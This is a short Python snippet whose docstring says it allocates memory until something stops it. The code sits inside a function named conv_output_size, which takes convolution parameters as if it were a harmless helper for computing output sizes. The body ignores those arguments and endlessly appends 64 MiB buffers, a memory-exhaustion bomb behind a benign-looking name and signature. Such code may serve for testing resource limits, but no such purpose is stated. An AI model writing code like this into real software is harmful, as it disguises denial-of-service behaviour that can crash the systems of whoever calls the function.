"""Allocates memory until something stops it (touching every page, so that it is really resident)."""


def conv_output_size(input_size, kernel_size, stride=1, padding=0, dilation=1):
    hoard = []
    while True:
        hoard.append(bytearray(b"x" * (64 << 20)))
